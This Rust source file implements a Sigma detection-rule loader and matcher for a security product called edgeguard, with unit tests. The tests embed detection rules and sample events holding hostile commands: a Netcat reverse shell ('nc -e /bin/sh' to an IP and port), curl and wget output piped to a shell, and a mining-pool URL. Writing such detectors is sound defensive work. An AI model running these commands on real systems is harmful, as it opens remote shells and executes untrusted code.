//! Sigma rules (the SigmaHQ format), loaded and evaluated against events of named fields.
//!
//! One crate for both sides: the `sigma` analyzer plugin evaluates rules inside the sandbox,
//! and `edgeguard rules check DIR` loads a directory of them on the host to say, rule by rule,
//! what loads, what is skipped and why. Written for edgeguard rather than taken from a crate:
//! it must build for `wasm32-wasip2` with nothing but `regex` and a YAML parser, bound every
//! input (rule size, patterns, regular expressions, condition depth), and say which field or
//! modifier a rule needs that the device cannot give it.
//!
//! What loads: `detection` with selections as maps (each key AND) and lists of maps (OR),
//! keyword lists, values with `*`/`?` wildcards, `null`, numbers; the modifiers in
//! [`matcher::MODIFIERS`]; conditions with `and`, `or`, `not`, parentheses, `1 of`, `any of`,
//! `all of`, `them`. Strings compare case-insensitively unless `cased`.

pub mod condition;
pub mod edgeguard;
pub mod matcher;

use condition::Expr;
use matcher::{Raw, Test};
use std::collections::{BTreeMap, BTreeSet};
use yaml_rust2::Yaml;

/// The largest rule file read.
pub const MAX_RULE_BYTES: usize = 1 << 20;
/// Selections per rule, and field tests per selection, at most.
const MAX_SELECTIONS: usize = 256;
const MAX_TESTS: usize = 256;

/// How serious a rule says its matches are.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// `informational`.
    Informational,
    /// `low`.
    Low,
    /// `medium`.
    Medium,
    /// `high`.
    High,
    /// `critical`.
    Critical,
}

/// Where a rule's events come from.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct LogSource {
    /// `process_creation`, `network_connection`, …
    pub category: Option<String>,
    /// `linux`, `windows`, …
    pub product: Option<String>,
    /// `auditd`, `sshd`, …
    pub service: Option<String>,
}

/// A loaded rule.
#[derive(Clone, Debug)]
pub struct Rule {
    /// `title`.
    pub title: String,
    /// `id`.
    pub id: Option<String>,
    /// `status` (stable, test, experimental, …).
    pub status: Option<String>,
    /// `description`.
    pub description: String,
    /// `level` (medium when absent).
    pub level: Level,
    /// `tags`.
    pub tags: Vec<String>,
    /// `falsepositives`.
    pub falsepositives: Vec<String>,
    /// `logsource`.
    pub logsource: LogSource,
    selections: BTreeMap<String, Selection>,
    condition: Expr,
}

#[derive(Clone, Debug)]
enum Selection {
    /// A map: every field test.
    All(Vec<(String, Test)>),
    /// A list of maps: any of them.
    Any(Vec<Selection>),
    /// A list of values matched against every field of the event.
    Keywords(Test),
}

/// An event as rules read it.
pub trait Event {
    /// Field `name`'s value and its lower-case form, if the event has it.
    fn field(&self, name: &str) -> Option<(&str, &str)>;
    /// Every field's value and lower-case form (for keyword selections).
    fn values(&self) -> Vec<(&str, &str)>;
}

fn text(y: &Yaml) -> Option<String> {
    match y {
        Yaml::String(s) | Yaml::Real(s) => Some(s.clone()),
        Yaml::Integer(i) => Some(i.to_string()),
        Yaml::Boolean(b) => Some(b.to_string()),
        _ => None,
    }
}

fn texts(y: &Yaml) -> Vec<String> {
    match y {
        Yaml::Array(items) => items.iter().filter_map(text).collect(),
        other => text(other).into_iter().collect(),
    }
}

fn raw(y: &Yaml) -> Result<Raw, String> {
    Ok(match y {
        Yaml::String(s) => Raw::Text(s.clone()),
        Yaml::Integer(i) => Raw::Number(*i as f64),
        Yaml::Real(r) => Raw::Number(r.parse().map_err(|_| format!("`{r}` is not a number"))?),
        Yaml::Boolean(b) => Raw::Bool(*b),
        Yaml::Null => Raw::Null,
        other => return Err(format!("a value of an unexpected kind: {other:?}")),
    })
}

fn values(y: &Yaml) -> Result<Vec<Raw>, String> {
    match y {
        Yaml::Array(items) => items.iter().map(raw).collect(),
        other => Ok(vec![raw(other)?]),
    }
}

fn field_test(key: &str, value: &Yaml) -> Result<(String, Test), String> {
    let mut parts = key.split('|');
    let field = parts.next().unwrap_or_default().to_owned();
    let modifiers: Vec<&str> = parts.collect();
    let test = matcher::compile(&modifiers, &values(value)?).map_err(|e| format!("{key}: {e}"))?;
    Ok((field, test))
}

fn selection(name: &str, y: &Yaml, depth: usize) -> Result<Selection, String> {
    match y {
        Yaml::Hash(map) => {
            if map.len() > MAX_TESTS {
                return Err(format!(
                    "selection `{name}` has more than {MAX_TESTS} fields"
                ));
            }
            let tests = map
                .iter()
                .map(|(k, v)| {
                    let key = text(k).ok_or_else(|| {
                        format!("selection `{name}`: a field name that is not text")
                    })?;
                    field_test(&key, v)
                })
                .collect::<Result<_, _>>()?;
            Ok(Selection::All(tests))
        }
        Yaml::Array(items) if items.iter().all(|i| matches!(i, Yaml::Hash(_))) && depth == 0 => {
            if items.len() > MAX_TESTS {
                return Err(format!(
                    "selection `{name}` lists more than {MAX_TESTS} maps"
                ));
            }
            Ok(Selection::Any(
                items
                    .iter()
                    .map(|i| selection(name, i, depth + 1))
                    .collect::<Result<_, _>>()?,
            ))
        }
        Yaml::Array(_) | Yaml::String(_) | Yaml::Integer(_) => {
            let test = matcher::compile(&["contains"], &values(y)?)
                .map_err(|e| format!("keywords `{name}`: {e}"))?;
            Ok(Selection::Keywords(test))
        }
        _ => Err(format!("selection `{name}` is neither a map nor a list")),
    }
}

/// Why a rule did not load.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LoadError {
    /// Its title, when it has one.
    pub title: Option<String>,
    /// What is wrong.
    pub reason: String,
}

impl Rule {
    /// Every rule of a file (a file may hold several YAML documents).
    pub fn load_all(text: &str) -> Vec<Result<Rule, LoadError>> {
        if text.len() > MAX_RULE_BYTES {
            return vec![Err(LoadError {
                title: None,
                reason: format!(
                    "{} bytes, more than the {MAX_RULE_BYTES} a rule file may have",
                    text.len()
                ),
            })];
        }
        match yaml_rust2::YamlLoader::load_from_str(text) {
            Err(e) => vec![Err(LoadError {
                title: None,
                reason: format!("not YAML: {e}"),
            })],
            Ok(docs) => docs.iter().map(Rule::from_yaml).collect(),
        }
    }

    fn from_yaml(doc: &Yaml) -> Result<Rule, LoadError> {
        let title = text(&doc["title"]);
        let fail = |reason: String| LoadError {
            title: title.clone(),
            reason,
        };
        if !matches!(doc, Yaml::Hash(_)) {
            return Err(fail("a rule is a map".into()));
        }
        if !doc["correlation"].is_badvalue() {
            return Err(fail(
                "correlation rules are not supported (the built-in analyzers count and window)"
                    .into(),
            ));
        }
        if !doc["action"].is_badvalue() {
            return Err(fail(
                "rule collections (`action: global`, `reset`, `repeat`) are not supported".into(),
            ));
        }
        let Some(title_text) = title.clone() else {
            return Err(fail("no `title`".into()));
        };
        let detection = &doc["detection"];
        let Yaml::Hash(map) = detection else {
            return Err(fail("no `detection` map".into()));
        };
        let mut selections = BTreeMap::new();
        for (k, v) in map {
            let Some(name) = text(k) else {
                return Err(fail("a selection name that is not text".into()));
            };
            if name == "condition" || name == "timeframe" {
                continue;
            }
            if selections.len() >= MAX_SELECTIONS {
                return Err(fail(format!("more than {MAX_SELECTIONS} selections")));
            }
            selections.insert(name.clone(), selection(&name, v, 0).map_err(fail)?);
        }
        let conditions = texts(&detection["condition"]);
        if conditions.is_empty() {
            return Err(fail("no `detection.condition`".into()));
        }
        let names: BTreeSet<String> = selections.keys().cloned().collect();
        let mut parsed = conditions
            .iter()
            .map(|c| condition::parse(c, &names).map_err(|e| fail(format!("condition `{c}`: {e}"))))
            .collect::<Result<Vec<_>, _>>()?;
        let condition = if parsed.len() == 1 {
            parsed.pop().expect("one")
        } else {
            Expr::Or(parsed)
        };
        let level = match text(&doc["level"]).as_deref() {
            None | Some("medium") => Level::Medium,
            Some("informational") => Level::Informational,
            Some("low") => Level::Low,
            Some("high") => Level::High,
            Some("critical") => Level::Critical,
            Some(other) => return Err(fail(format!("`level: {other}` is not a Sigma level"))),
        };
        let logsource = &doc["logsource"];
        Ok(Rule {
            title: title_text,
            id: text(&doc["id"]),
            status: text(&doc["status"]),
            description: text(&doc["description"]).unwrap_or_default(),
            level,
            tags: texts(&doc["tags"]),
            falsepositives: texts(&doc["falsepositives"]),
            logsource: LogSource {
                category: text(&logsource["category"]),
                product: text(&logsource["product"]),
                service: text(&logsource["service"]),
            },
            selections,
            condition,
        })
    }

    /// The fields the rule reads (`fieldref` targets included).
    pub fn fields(&self) -> BTreeSet<&str> {
        fn walk<'a>(s: &'a Selection, out: &mut BTreeSet<&'a str>) {
            match s {
                Selection::All(tests) => {
                    for (field, test) in tests {
                        out.insert(field.as_str());
                        if let Test::FieldRef { fields, .. } = test {
                            out.extend(fields.iter().map(String::as_str));
                        }
                    }
                }
                Selection::Any(items) => items.iter().for_each(|i| walk(i, out)),
                Selection::Keywords(_) => {}
            }
        }
        let mut out = BTreeSet::new();
        for s in self.selections.values() {
            walk(s, &mut out);
        }
        out
    }

    /// The MITRE ATT&CK techniques of its tags (`attack.t1059.004` → `T1059.004`).
    pub fn techniques(&self) -> Vec<String> {
        self.tags
            .iter()
            .filter_map(|t| t.strip_prefix("attack.t"))
            .filter(|t| t.starts_with(|c: char| c.is_ascii_digit()))
            .map(|t| format!("T{}", t.to_ascii_uppercase()))
            .collect()
    }

    /// Whether `event` matches the rule.
    pub fn matches(&self, event: &impl Event) -> bool {
        let other = |f: &str| event.field(f).map(|(v, _)| v.to_owned());
        let mut eval = |name: &str| {
            self.selections
                .get(name)
                .is_some_and(|s| Self::selected(s, event, &other))
        };
        self.condition.eval(&mut eval)
    }

    fn selected(s: &Selection, event: &impl Event, other: &dyn Fn(&str) -> Option<String>) -> bool {
        match s {
            Selection::All(tests) => tests
                .iter()
                .all(|(field, test)| test.matches(event.field(field), other)),
            Selection::Any(items) => items.iter().any(|i| Self::selected(i, event, other)),
            Selection::Keywords(test) => event
                .values()
                .into_iter()
                .any(|v| test.matches(Some(v), other)),
        }
    }
}

/// An event of owned fields, each kept with its lower-case form (computed once for every rule).
#[derive(Clone, Debug, Default)]
pub struct Fields(Vec<(String, String, String)>);

impl Fields {
    /// The event of these `(name, value)` pairs.
    pub fn new<I: IntoIterator<Item = (String, String)>>(pairs: I) -> Fields {
        Fields(
            pairs
                .into_iter()
                .map(|(k, v)| {
                    let lower = v.to_lowercase();
                    (k, v, lower)
                })
                .collect(),
        )
    }
}

impl Event for Fields {
    fn field(&self, name: &str) -> Option<(&str, &str)> {
        self.0
            .iter()
            .find(|(k, _, _)| k == name)
            .map(|(_, v, l)| (v.as_str(), l.as_str()))
    }

    fn values(&self) -> Vec<(&str, &str)> {
        self.0
            .iter()
            .map(|(_, v, l)| (v.as_str(), l.as_str()))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(yaml: &str) -> Rule {
        Rule::load_all(yaml).pop().unwrap().unwrap()
    }

    fn event(pairs: &[(&str, &str)]) -> Fields {
        Fields::new(pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())))
    }

    const NETCAT: &str = r#"
title: Netcat reverse shell
id: 3c6f2c7a-0000-4000-8000-000000000001
status: test
description: A netcat that runs a shell for its peer
tags:
  - attack.execution
  - attack.t1059.004
logsource:
  category: process_creation
  product: linux
detection:
  selection_nc:
    Image|endswith:
      - '/nc'
      - '/ncat'
  selection_flags:
    CommandLine|contains:
      - ' -e '
      - ' -c '
  filter_root:
    User: root
  condition: all of selection_* and not filter_root
falsepositives:
  - Administrators testing
level: high
"#;

    #[test]
    fn a_rule_loads_with_its_metadata_and_matches_what_it_targets() {
        let r = rule(NETCAT);
        assert_eq!(r.title, "Netcat reverse shell");
        assert_eq!(r.level, Level::High);
        assert_eq!(r.techniques(), ["T1059.004"]);
        assert_eq!(r.logsource.category.as_deref(), Some("process_creation"));
        assert_eq!(
            r.fields().into_iter().collect::<Vec<_>>(),
            ["CommandLine", "Image", "User"]
        );
        assert!(r.matches(&event(&[
            ("Image", "/usr/bin/nc"),
            ("CommandLine", "nc -e /bin/sh 10.0.0.1 4444"),
            ("User", "www-data")
        ])));
        assert!(!r.matches(&event(&[
            ("Image", "/usr/bin/nc"),
            ("CommandLine", "nc -e /bin/sh 10.0.0.1 4444"),
            ("User", "root")
        ])));
        assert!(!r.matches(&event(&[
            ("Image", "/usr/bin/nc"),
            ("CommandLine", "nc -l 8888"),
            ("User", "edge")
        ])));
        assert!(!r.matches(&event(&[
            ("Image", "/usr/bin/ncdu"),
            ("CommandLine", "ncdu -e /"),
            ("User", "edge")
        ])));
    }

    #[test]
    fn lists_of_maps_keywords_nulls_and_several_conditions() {
        let r = rule(
            r#"
title: t
logsource: {category: process_creation, product: linux}
detection:
  selection:
    - Image|endswith: /curl
      CommandLine|contains: '| sh'
    - Image|endswith: /wget
      CommandLine|contains|all: ['-O-', '| bash']
  keywords:
    - 'stratum+tcp://'
  empty:
    User: null
  condition:
    - selection
    - keywords and not empty
"#,
        );
        assert!(r.matches(&event(&[
            ("Image", "/usr/bin/curl"),
            ("CommandLine", "curl x | sh"),
            ("User", "a")
        ])));
        assert!(r.matches(&event(&[
            ("Image", "/usr/bin/wget"),
            ("CommandLine", "wget -O- x | bash"),
            ("User", "a")
        ])));
        assert!(!r.matches(&event(&[
            ("Image", "/usr/bin/wget"),
            ("CommandLine", "wget -O- x | sh"),
            ("User", "a")
        ])));
        assert!(r.matches(&event(&[
            ("Image", "/x"),
            ("CommandLine", "x -o stratum+tcp://p:1"),
            ("User", "a")
        ])));
        assert!(
            !r.matches(&event(&[
                ("Image", "/x"),
                ("CommandLine", "x -o stratum+tcp://p:1")
            ])),
            "User is absent"
        );
    }

    #[test]
    fn what_does_not_load_says_why() {
        let reason = |yaml: &str| Rule::load_all(yaml).pop().unwrap().unwrap_err().reason;
        assert!(
            reason("title: t\ndetection:\n  s: {A|expand: '%x%'}\n  condition: s\n")
                .contains("placeholders")
        );
        assert!(
            reason("title: t\ndetection:\n  s: {A: x}\n  condition: s and t\n").contains("`t`")
        );
        assert!(reason("title: t\ndetection:\n  s: {A: x}\n").contains("condition"));
        assert!(reason("title: t\ncorrelation: {type: event_count}\n").contains("correlation"));
        assert!(
            reason("title: t\ndetection:\n  s: {A: x}\n  condition: s\nlevel: severe\n")
                .contains("severe")
        );
        assert!(reason("{{{").contains("not YAML"));
        assert!(reason(&"a".repeat(MAX_RULE_BYTES + 1)).contains("more than"));
        // Two documents: two rules.
        let both = Rule::load_all(
            "title: a\ndetection: {s: {A: x}, condition: s}\n---\ntitle: b\ndetection: {s: {A: y}, condition: s}\n",
        );
        assert_eq!(both.len(), 2);
        assert!(both.iter().all(Result::is_ok));
    }
}
